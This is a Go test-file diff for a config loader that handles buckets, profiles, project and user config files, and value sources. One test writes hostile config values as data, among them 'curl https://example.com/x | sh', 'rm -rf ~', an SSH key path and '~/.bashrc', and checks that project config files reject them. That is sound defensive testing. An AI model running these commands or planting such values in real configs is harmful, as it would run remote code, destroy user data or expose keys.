@@ -3,6 +3,7 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -267,3 +268,494 @@ func TestLoad_ExplicitCredentialsPriorityOverDefault(t *testing.T) {
 		t.Errorf("Credentials = %q, want %q", cfg.Credentials, explicitCreds)
 	}
 }
+
+func writeConfigFile(t *testing.T, home, content string) {
+	t.Helper()
+	t.Setenv("XDG_CONFIG_HOME", "")
+	dir := filepath.Join(home, ".config", "reprint")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatalf("failed to create directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(content), 0644); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+}
+
+const profilesConfig = `bucket: flat-bucket
+prefix: flat/
+default_profile: internal
+profiles:
+  internal:
+    bucket: internal-bucket
+  customer:
+    bucket: customer-bucket
+    prefix: customer/
+    credentials: /customer/creds.json
+`
+
+func TestLoad_Profiles(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PREFIX")
+	os.Unsetenv("REPRINT_CREDENTIALS")
+	os.Unsetenv("REPRINT_PROFILE")
+
+	tmpDir := t.TempDir()
+	writeConfigFile(t, tmpDir, profilesConfig)
+	t.Setenv("HOME", tmpDir)
+
+	tests := []struct {
+		name        string
+		env         string
+		flag        string
+		wantProfile string
+		wantBucket  string
+		wantPrefix  string
+		wantCreds   string
+	}{
+		{
+			name:        "default_profile",
+			wantProfile: "internal",
+			wantBucket:  "internal-bucket",
+			wantPrefix:  "flat/",
+		},
+		{
+			name:        "env selects profile",
+			env:         "customer",
+			wantProfile: "customer",
+			wantBucket:  "customer-bucket",
+			wantPrefix:  "customer/",
+			wantCreds:   "/customer/creds.json",
+		},
+		{
+			name:        "flag overrides env",
+			env:         "internal",
+			flag:        "customer",
+			wantProfile: "customer",
+			wantBucket:  "customer-bucket",
+			wantPrefix:  "customer/",
+			wantCreds:   "/customer/creds.json",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Setenv("REPRINT_PROFILE", tt.env)
+
+			cfg, err := Load(WithProfile(tt.flag))
+			if err != nil {
+				t.Fatalf("Load() error = %v", err)
+			}
+
+			if cfg.Profile != tt.wantProfile {
+				t.Errorf("Profile = %q, want %q", cfg.Profile, tt.wantProfile)
+			}
+			if cfg.Bucket != tt.wantBucket {
+				t.Errorf("Bucket = %q, want %q", cfg.Bucket, tt.wantBucket)
+			}
+			if cfg.Prefix != tt.wantPrefix {
+				t.Errorf("Prefix = %q, want %q", cfg.Prefix, tt.wantPrefix)
+			}
+			if cfg.Credentials != tt.wantCreds {
+				t.Errorf("Credentials = %q, want %q", cfg.Credentials, tt.wantCreds)
+			}
+		})
+	}
+}
+
+func TestLoad_ProfileEnvVarsPriority(t *testing.T) {
+	os.Unsetenv("REPRINT_PREFIX")
+	os.Unsetenv("REPRINT_CREDENTIALS")
+
+	tmpDir := t.TempDir()
+	writeConfigFile(t, tmpDir, profilesConfig)
+	t.Setenv("HOME", tmpDir)
+	t.Setenv("REPRINT_PROFILE", "customer")
+	t.Setenv("REPRINT_BUCKET", "env-bucket")
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	if cfg.Bucket != "env-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "env-bucket")
+	}
+	if cfg.Prefix != "customer/" {
+		t.Errorf("Prefix = %q, want %q", cfg.Prefix, "customer/")
+	}
+}
+
+func TestLoad_FlatConfigFile(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PREFIX")
+	os.Unsetenv("REPRINT_CREDENTIALS")
+	os.Unsetenv("REPRINT_PROFILE")
+
+	tmpDir := t.TempDir()
+	writeConfigFile(t, tmpDir, "bucket: flat-bucket\nprefix: flat/\n")
+	t.Setenv("HOME", tmpDir)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	if cfg.Profile != "" {
+		t.Errorf("Profile = %q, want empty", cfg.Profile)
+	}
+	if cfg.Bucket != "flat-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "flat-bucket")
+	}
+	if cfg.Prefix != "flat/" {
+		t.Errorf("Prefix = %q, want %q", cfg.Prefix, "flat/")
+	}
+}
+
+func TestLoad_UnknownProfile(t *testing.T) {
+	os.Unsetenv("REPRINT_PROFILE")
+
+	tmpDir := t.TempDir()
+	writeConfigFile(t, tmpDir, profilesConfig)
+	t.Setenv("HOME", tmpDir)
+
+	if _, err := Load(WithProfile("missing")); err == nil {
+		t.Error("Load() should fail for undefined profile")
+	}
+}
+
+func TestLoad_ProjectConfig(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PREFIX")
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+
+	home := t.TempDir()
+	writeConfigFile(t, home, "bucket: user-bucket\nprefix: user/\ncredentials: /user/creds.json\n")
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+
+	project := t.TempDir()
+	projectFile := filepath.Join(project, ProjectConfigFilename)
+	if err := os.WriteFile(projectFile, []byte("bucket: project-bucket\nprefix: decks/\n"), 0644); err != nil {
+		t.Fatalf("failed to write project config: %v", err)
+	}
+	subDir := filepath.Join(project, "slides", "2024")
+	if err := os.MkdirAll(subDir, 0755); err != nil {
+		t.Fatalf("failed to create directory: %v", err)
+	}
+	t.Chdir(subDir)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	if cfg.Bucket != "project-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "project-bucket")
+	}
+	if cfg.Prefix != "decks/" {
+		t.Errorf("Prefix = %q, want %q", cfg.Prefix, "decks/")
+	}
+	if cfg.Credentials != "/user/creds.json" {
+		t.Errorf("Credentials = %q, want %q", cfg.Credentials, "/user/creds.json")
+	}
+	wantFiles := []string{filepath.Join(home, ".config", "reprint", UserConfigFilename), projectFile}
+	if len(cfg.Files) != len(wantFiles) || cfg.Files[0] != wantFiles[0] || cfg.Files[1] != wantFiles[1] {
+		t.Errorf("Files = %v, want %v", cfg.Files, wantFiles)
+	}
+
+	// Environment variables take precedence over the project config
+	t.Setenv("REPRINT_BUCKET", "env-bucket")
+	cfg, err = Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Bucket != "env-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "env-bucket")
+	}
+}
+
+func TestLoad_ProjectConfigUserOnlyKeys(t *testing.T) {
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+
+	home := t.TempDir()
+	writeConfigFile(t, home, "bucket: user-bucket\ncredentials_command: vault read creds\n")
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+
+	for _, content := range []string{
+		"credentials_command: curl https://example.com/x | sh\n",
+		"encryption_key_command: rm -rf ~\n",
+		"encryption_key_file: /home/user/.ssh/id_ed25519\n",
+		"credentials: ./attacker.json\n",
+		"audit_log: ~/.bashrc\n",
+		"profiles:\n  work:\n    credentials_command: touch /tmp/pwned\n",
+	} {
+		project := t.TempDir()
+		if err := os.WriteFile(filepath.Join(project, ProjectConfigFilename), []byte(content), 0644); err != nil {
+			t.Fatalf("failed to write project config: %v", err)
+		}
+		t.Chdir(project)
+
+		_, err := Load()
+		if err == nil || !strings.Contains(err.Error(), "not allowed in a project config file") {
+			t.Errorf("Load() with a project config of %q error = %v, want not allowed", content, err)
+		}
+	}
+
+	// The same keys are fine in the user config file.
+	t.Chdir(t.TempDir())
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.CredentialsCommand != "vault read creds" {
+		t.Errorf("CredentialsCommand = %q, want the user config's", cfg.CredentialsCommand)
+	}
+}
+
+func TestLoad_ProjectConfigProfile(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PREFIX")
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+
+	home := t.TempDir()
+	writeConfigFile(t, home, profilesConfig)
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+
+	// The project pins its bucket and selects a profile defined by the user
+	project := t.TempDir()
+	content := "default_profile: customer\nbucket: project-bucket\n"
+	if err := os.WriteFile(filepath.Join(project, ProjectConfigFilename), []byte(content), 0644); err != nil {
+		t.Fatalf("failed to write project config: %v", err)
+	}
+	t.Chdir(project)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	if cfg.Profile != "customer" {
+		t.Errorf("Profile = %q, want %q", cfg.Profile, "customer")
+	}
+	if cfg.Bucket != "project-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "project-bucket")
+	}
+	if cfg.Prefix != "customer/" {
+		t.Errorf("Prefix = %q, want %q", cfg.Prefix, "customer/")
+	}
+}
+
+func TestLoad_XDGConfigHome(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+	t.Chdir(t.TempDir())
+
+	xdg := t.TempDir()
+	dir := filepath.Join(xdg, "reprint")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatalf("failed to create directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, UserConfigFilename), []byte("bucket: xdg-bucket\n"), 0644); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", xdg)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	if cfg.Bucket != "xdg-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "xdg-bucket")
+	}
+}
+
+func TestLoad_WithConfigFile(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+	t.Chdir(t.TempDir())
+
+	home := t.TempDir()
+	writeConfigFile(t, home, "bucket: user-bucket\n")
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+
+	explicit := filepath.Join(t.TempDir(), "custom.yaml")
+	if err := os.WriteFile(explicit, []byte("bucket: explicit-bucket\n"), 0644); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+
+	cfg, err := Load(WithConfigFile(explicit))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Bucket != "explicit-bucket" {
+		t.Errorf("Bucket = %q, want %q", cfg.Bucket, "explicit-bucket")
+	}
+	if len(cfg.Files) != 1 || cfg.Files[0] != explicit {
+		t.Errorf("Files = %v, want [%s]", cfg.Files, explicit)
+	}
+
+	if _, err := Load(WithConfigFile(filepath.Join(t.TempDir(), "missing.yaml"))); err == nil {
+		t.Error("Load() should fail for missing explicit config file")
+	}
+}
+
+func TestLoad_Sources(t *testing.T) {
+	os.Unsetenv("REPRINT_BUCKET")
+	os.Unsetenv("REPRINT_CREDENTIALS")
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CONFIG")
+	t.Chdir(t.TempDir())
+
+	home := t.TempDir()
+	writeConfigFile(t, home, profilesConfig)
+	t.Setenv("HOME", home)
+	t.Setenv("REPRINT_PREFIX", "env/")
+	configPath := filepath.Join(home, ".config", "reprint", UserConfigFilename)
+
+	cfg, err := Load(WithCredentials("/cli/creds.json"))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	tests := []struct {
+		key  string
+		want Source
+	}{
+		{key: "profile", want: Source{Kind: SourceFile, Name: configPath, Line: 3}},
+		{key: "bucket", want: Source{Kind: SourceFile, Name: configPath, Line: 6, Profile: "internal"}},
+		{key: "prefix", want: Source{Kind: SourceEnv, Name: "REPRINT_PREFIX"}},
+		{key: "credentials", want: Source{Kind: SourceFlag, Name: "--credentials"}},
+	}
+	for _, tt := range tests {
+		if got := cfg.Source(tt.key); got != tt.want {
+			t.Errorf("Source(%q) = %v, want %v", tt.key, got, tt.want)
+		}
+	}
+
+	if got, ok := cfg.Value("bucket"); !ok || got != "internal-bucket" {
+		t.Errorf("Value(bucket) = %q, %v, want %q, true", got, ok, "internal-bucket")
+	}
+	if _, ok := cfg.Value("buket"); ok {
+		t.Error("Value(buket) should fail for unknown key")
+	}
+}
+
+func TestLoad_InvalidConfigFile(t *testing.T) {
+	os.Unsetenv("REPRINT_CONFIG")
+	t.Chdir(t.TempDir())
+
+	home := t.TempDir()
+	writeConfigFile(t, home, "buket: my-bucket\n")
+	t.Setenv("HOME", home)
+
+	_, err := Load()
+	if err == nil {
+		t.Fatal("Load() should fail for unknown key")
+	}
+	want := filepath.Join(home, ".config", "reprint", UserConfigFilename) + `:1: unknown key "buket" (did you mean "bucket"?)`
+	if !strings.Contains(err.Error(), want) {
+		t.Errorf("Load() error = %q, want to contain %q", err, want)
+	}
+}
+
+func TestLoad_NormalizesPrefix(t *testing.T) {
+	t.Setenv("REPRINT_PREFIX", "deck")
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Prefix != "deck/" {
+		t.Errorf("Prefix = %q, want %q", cfg.Prefix, "deck/")
+	}
+}
+
+func TestLoad_CacheControlDefault(t *testing.T) {
+	os.Unsetenv("REPRINT_PROFILE")
+	os.Unsetenv("REPRINT_CACHE_CONTROL")
+	t.Chdir(t.TempDir())
+
+	home := t.TempDir()
+	writeConfigFile(t, home, `storage_class: NEARLINE
+profiles:
+  public:
+    cache_control: private, max-age=60
+    content_disposition: inline
+`)
+	t.Setenv("HOME", home)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.CacheControl != "no-store" {
+		t.Errorf("CacheControl = %q, want %q", cfg.CacheControl, "no-store")
+	}
+	if got := cfg.Source("cache_control"); got.Kind != SourceDefault {
+		t.Errorf("Source(cache_control) = %v, want default", got)
+	}
+	if cfg.StorageClass != "NEARLINE" {
+		t.Errorf("StorageClass = %q, want %q", cfg.StorageClass, "NEARLINE")
+	}
+
+	cfg, err = Load(WithProfile("public"))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.CacheControl != "private, max-age=60" {
+		t.Errorf("CacheControl = %q, want %q", cfg.CacheControl, "private, max-age=60")
+	}
+	if cfg.ContentDisposition != "inline" {
+		t.Errorf("ContentDisposition = %q, want %q", cfg.ContentDisposition, "inline")
+	}
+}
+
+func TestConfig_Fingerprint(t *testing.T) {
+	base := func() *Config {
+		return &Config{Bucket: "bucket", Prefix: "2024-01-02/", PrefixTemplate: "{{.Date}}/", CredentialsJSON: "{}"}
+	}
+
+	a, b := base(), base()
+	b.Prefix = "2024-01-03/" // same template rendered on another day
+	if a.Fingerprint() != b.Fingerprint() {
+		t.Error("Fingerprint() differs for the same prefix template")
+	}
+
+	for name, change := range map[string]func(*Config){
+		"session":    func(c *Config) { c.Session = "s1" },
+		"deck":       func(c *Config) { c.Deck = "slides" },
+		"log level":  func(c *Config) { c.LogLevel = "debug" },
+		"log format": func(c *Config) { c.LogFormat = "json" },
+	} {
+		c := base()
+		change(c)
+		if c.Fingerprint() != a.Fingerprint() {
+			t.Errorf("Fingerprint() is changed by a different %s", name)
+		}
+	}
+
+	for name, change := range map[string]func(*Config){
+		"bucket":            func(c *Config) { c.Bucket = "other" },
+		"prefix template":   func(c *Config) { c.PrefixTemplate = "{{.Deck}}/" },
+		"secret":            func(c *Config) { c.CredentialsJSON = `{"type":"service_account"}` },
+		"metadata":          func(c *Config) { c.Metadata = map[string]string{"team": "docs"} },
+		"profile":           func(c *Config) { c.Profile = "work" },
+		"resumable uploads": func(c *Config) { c.Resumable = true },
+	} {
+		c := base()
+		change(c)
+		if c.Fingerprint() == a.Fingerprint() {
+			t.Errorf("Fingerprint() is unchanged by a different %s", name)
+		}
+	}
+}